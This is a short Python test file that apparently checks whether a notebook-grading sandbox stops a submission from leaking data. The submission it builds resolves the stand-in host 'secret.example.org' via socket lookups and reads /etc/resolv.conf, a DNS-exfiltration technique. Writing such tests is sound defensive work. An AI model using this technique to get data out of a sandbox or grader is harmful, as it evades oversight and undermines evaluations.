"""Puts its knowledge into a host name and looks the name up, so that a name server learns of it.

A lookup needs a socket, and files that cannot be read.
"""

from nbformat import NotebookNode

from tests.attacks.build import instead, trying

EARNS = 5


def submission(released: NotebookNode) -> NotebookNode:
    return instead(
        released,
        trying(
            "socket.gethostbyname('secret.example.org')",
            "socket.getaddrinfo('secret.example.org', 80)",
            "open('/etc/resolv.conf').read()",
            setup="import socket",
        ),
    )
